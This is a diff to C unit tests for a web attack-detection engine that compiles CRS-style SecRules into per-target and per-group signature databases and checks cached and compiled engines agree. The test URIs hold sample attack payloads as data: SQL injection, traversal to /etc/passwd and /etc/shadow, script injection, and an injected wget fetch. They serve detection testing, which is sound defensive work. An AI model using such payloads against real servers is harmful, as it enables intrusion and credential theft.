@@ -845,6 +845,18 @@ cache_skips_analysis(void **state)
 	rmdir(dir);
 }
 
+/* 1 when group g has a database of its own beside the per-target ones:
+ * some rules scanned, at most SIG_GROUP_SMALL of them. */
+static int
+small_rules(const struct sig_group *g, const struct crs_set *cs)
+{
+	size_t n = 0;
+
+	for (size_t i = 0; i < g->nrules; i++)
+		n += crs_op_scanned(cs->r[g->rules[i]].op);
+	return n > 0 && n <= SIG_GROUP_SMALL;
+}
+
 /* Debian's rule set at paranoia 1: an SQL injection and a traversal are
  * flagged with their rules, a plain page is not. */
 static void
@@ -913,11 +925,20 @@ evaluate_debian_crs(void **state)
 	}
 
 	/* every group's rules in one database per target (the arguments'
-	 * targets in one), no group's database of its own */
+	 * targets in one); a group's own database beside them for the small
+	 * groups only */
 	assert_true(e.sig.big != NULL);
 	assert_true(e.sig.big_targets & (1u << CT_ARGS));
-	for (size_t g = 0; g < e.sig.ngrp; g++)
-		assert_null(e.sig.grp[g].db);
+	{
+		size_t own = 0;
+
+		for (size_t g = 0; g < e.sig.ngrp; g++) {
+			assert_int_equal(e.sig.grp[g].db != NULL,
+			    small_rules(&e.sig.grp[g], &e.crs->set));
+			own += e.sig.grp[g].db != NULL;
+		}
+		assert_true(own > 0 && own < e.sig.ngrp);
+	}
 	attack_engine_release(&e);
 }
 
@@ -963,19 +984,32 @@ evaluate_shared_scans(void **state)
 	    "setvar:'tx.anomaly_score_pl1=+5'\"\n"
 	    "SecRule REQUEST_HEADERS:User-Agent \"@rx AbC A\" \"id:12,"
 	    "phase:2,t:none,t:urlDecodeUni,"
-	    "setvar:'tx.anomaly_score_pl1=+5'\"\n";
+	    "setvar:'tx.anomaly_score_pl1=+5'\"\n"
+	    /* the lower-case group made large: the other groups are
+	     * small, and have a database of their own too */
+#define LOWER(id)                                                              \
+	"SecRule REQUEST_HEADERS:User-Agent \"@rx q" #id "z\" \"id:" #id       \
+	",phase:2,t:none,t:lowercase,setvar:'tx.anomaly_score_pl1=+5'\"\n"
+	    LOWER(13) LOWER(14) LOWER(15) LOWER(16) LOWER(17) LOWER(18)
+	    LOWER(19) LOWER(20) LOWER(21);
+#undef LOWER
 	static const char *const uris[] = {
 	    "/index.php?id=1%27%20UNION%20SELECT%201,2--",
 	    "/x?file=../../etc/passwd&cmd=CAT+/etc/shadow",
 	    "/a?q=%3CScript%3Ealert(1)&%3cscript%3e=1",
 	    "/ETC/PASSWD?x=select+1",
 	    "/p?y=;W'g'et+http://e.test/a&z=a/b/../../c"};
-	struct attack_engine e[2];
-	struct attack_result res[2];
-	unsigned fired = 0;
+	/* shared databases compiled, each group's own, the shared ones
+	 * read from the cache the first wrote */
+	struct attack_engine e[3];
+	struct attack_result res[3];
+	char cache[128];
+	unsigned nfired = 0;
 
 	(void)state;
-	for (int m = 0; m < 2; m++) {
+	snprintf(cache, sizeof(cache), "%s/shared.hsdb", cache_dir);
+	unlink(cache);
+	for (int m = 0; m < 3; m++) {
 		struct attack_ruleset rs;
 		struct secrule_set ss;
 		struct crs_set cs;
@@ -984,7 +1018,7 @@ evaluate_shared_scans(void **state)
 		ruleset_init(&rs);
 		assert_int_equal(
 		    attack_engine_init(&e[m], &rs, NULL, 0, &err), 0);
-		e[m].sig.crs_groups_only = m;
+		e[m].sig.crs_groups_only = m == 1;
 		secrule_set_init(&ss);
 		crs_set_init(&cs);
 		assert_int_equal(
@@ -992,27 +1026,49 @@ evaluate_shared_scans(void **state)
 		    0);
 		assert_int_equal(
 		    crs_translate(&cs, &ss, "t.conf", CRS_DIR, &err), 0);
-		if (attack_engine_crs(&e[m], &cs, 1, 5, NULL, &err) == -1)
+		if (attack_engine_crs(&e[m], &cs, 1, 5, m == 1 ? NULL : cache,
+		        &err) == -1)
 			fail_msg("%s", err.msg);
 		secrule_set_release(&ss);
 		attack_engine_memo(&e[m], 0);
 	}
 	assert_true(e[0].sig.big != NULL);
 	assert_true(e[1].sig.big == NULL && e[1].sig.all_targets == 0);
-	for (size_t i = 0; i < sizeof(uris) / sizeof(*uris); i++) {
-		for (int m = 0; m < 2; m++)
-			match(&e[m], "GET", uris[i], "curl/8 (Wget)", &res[m]);
-		assert_int_equal(res[0].crs_score, res[1].crs_score);
-		assert_int_equal(res[0].ncrs, res[1].ncrs);
-		for (unsigned k = 0; k < res[0].ncrs; k++) {
-			assert_int_equal(res[0].crs[k].id, res[1].crs[k].id);
-			assert_int_equal(res[0].crs[k].len, res[1].crs[k].len);
-			assert_memory_equal(res[0].crs[k].text,
-			    res[1].crs[k].text, res[0].crs[k].len);
+	assert_false(e[0].sig.crs_from_cache);
+	assert_true(e[2].sig.crs_from_cache);
+	/* the small groups' own databases, compiled and from the cache */
+	for (int m = 0; m < 3; m += 2) {
+		size_t own = 0;
+
+		for (size_t g = 0; g < e[m].sig.ngrp; g++) {
+			assert_int_equal(e[m].sig.grp[g].db != NULL,
+			    small_rules(&e[m].sig.grp[g], &e[m].crs->set));
+			own += e[m].sig.grp[g].db != NULL;
 		}
-		fired += res[0].ncrs;
+		assert_int_equal(own, e[m].sig.ngrp - 1);
 	}
-	assert_true(fired >= 8);
+	for (size_t i = 0; i < sizeof(uris) / sizeof(*uris); i++) {
+		for (int m = 0; m < 3; m++)
+			match(&e[m], "GET", uris[i], "curl/8 (Wget) Q17Z",
+			    &res[m]);
+		for (int m = 0; m < 3; m += 2) {
+			assert_int_equal(res[m].crs_score, res[1].crs_score);
+			assert_int_equal(res[m].ncrs, res[1].ncrs);
+			for (unsigned k = 0; k < res[m].ncrs; k++) {
+				assert_int_equal(
+				    res[m].crs[k].id, res[1].crs[k].id);
+				assert_int_equal(
+				    res[m].crs[k].len, res[1].crs[k].len);
+				assert_memory_equal(res[m].crs[k].text,
+				    res[1].crs[k].text, res[m].crs[k].len);
+			}
+		}
+		/* the agent's lower-case text (a large group) and its
+		 * command line (a small one) */
+		assert_true(fired(&res[0], 17) && fired(&res[0], 3));
+		nfired += res[0].ncrs;
+	}
+	assert_true(nfired >= 13);
 	/* a User-Agent so long that its texts do not all fit the room kept
 	 * for them: the last are made again and scanned on their own */
 	{
@@ -1034,8 +1090,9 @@ evaluate_shared_scans(void **state)
 		}
 		strbuf_release(&u);
 	}
-	attack_engine_release(&e[0]);
-	attack_engine_release(&e[1]);
+	for (int m = 0; m < 3; m++)
+		attack_engine_release(&e[m]);
+	unlink(cache);
 }
 
 /* One request against e: 1 when rule id fired on it. */
